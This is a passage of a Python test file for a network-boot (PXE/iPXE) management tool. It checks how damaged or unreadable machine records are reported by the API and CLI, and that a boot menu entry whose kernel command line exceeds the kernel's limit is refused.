    assert f"restore {damaged}, or remove it" in caplog.text  # the file, for the admin
    status, _, body = get(server, f"/api/machines/{OTHER}")
    assert (
        status == 500 and json.loads(body)["error"] == f"the record of {OTHER} is damaged: it has no 'image'"
    )


def test_cli_machines_lists_the_others_and_names_the_damaged_record(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from bootenv.cli import main

    state = tmp_path / "state"
    assert main(["assign", MAC, "lamp", "--components", "mysql", "--state", str(state)]) == 0
    damaged = state / "machines" / "52-54-00-ab-cd-ef.json"
    damaged.write_text(json.dumps({"mac": OTHER, "oops": 1}))
    capsys.readouterr()
    # Listed, the others are; the damaged one is a line on stderr, and the exit code says
    # the listing is not the whole fleet (a script checking it must not miss a machine).
    assert main(["machines", "--state", str(state)]) == 2
    out, err = capsys.readouterr()
    assert MAC in out and OTHER not in out
    assert f"the record of {OTHER} is damaged: it has no 'image' (hint: restore {damaged}" in err
    assert main(["machines", "--state", str(state), "--json"]) == 2
    out, err = capsys.readouterr()
    assert [(m["mac"], m.get("damaged")) for m in json.loads(out)] == [
        (MAC, None),
        (OTHER, f"the record of {OTHER} is damaged: it has no 'image'"),
    ]
    assert f"(hint: restore {damaged}" in err
    damaged.unlink()  # removed, as the hint says: the fleet lists whole again
    assert main(["machines", "--state", str(state)]) == 0
    capsys.readouterr()
    # A record that cannot be read at all (a directory in its place, a symlink loop: as a
    # file nobody may read) is damaged as one that does not parse: it hid the whole list.
    damaged.mkdir()
    loop = state / "machines" / "52-54-00-ab-cd-f0.json"
    loop.symlink_to(loop.name)
    assert main(["machines", "--state", str(state)]) == 2
    out, err = capsys.readouterr()
    assert MAC in out and "Traceback" not in err
    assert f"the record of {OTHER} is damaged: Is a directory" in err
    assert "the record of 52:54:00:ab:cd:f0 is damaged: Too many levels of symbolic links" in err


def test_a_menu_choice_whose_kernel_line_the_kernel_would_cut_is_refused(tmp_path: Path) -> None:
    """Counted with this server's URL: the catalog was checked without it."""
    from dataclasses import replace

    from bootenv.menu import MAX_CMDLINE, BootSpec

    images = tmp_path / "images"
    make_image(images)
    public = "http://boot.rack4.example.com:8080/pxe"
    spec = BootSpec(public, OTHER, f"{public}/images/lamp", "all", assignment="0" * 16)
    args = "x=" + "y" * (MAX_CMDLINE - len(spec.kernel_cmdline()) - 2)  # one byte over, with this URL
    assert len(replace(spec, kernel_args=args).kernel_cmdline()) == MAX_CMDLINE + 1
    entry = {"id": "long", "title": "long", "image": "lamp", "components": "all", "kernel_args": args}
    (images / "catalog.json").write_text(json.dumps({"default": "long", "timeout": 3, "entries": [entry]}))
    config = ServeConfig(images=images, state=tmp_path / "state", port=0, public_url=public)
    with running(config) as srv:
        status, _, body = get(srv, f"/ipxe/select/long?mac={OTHER}")
        assert status == 200 and "\nkernel " not in body.decode()
        assert "over the 2047 the kernel keeps" in body.decode()
        assert Store(srv.config.state).get(OTHER) is None  # nothing recorded
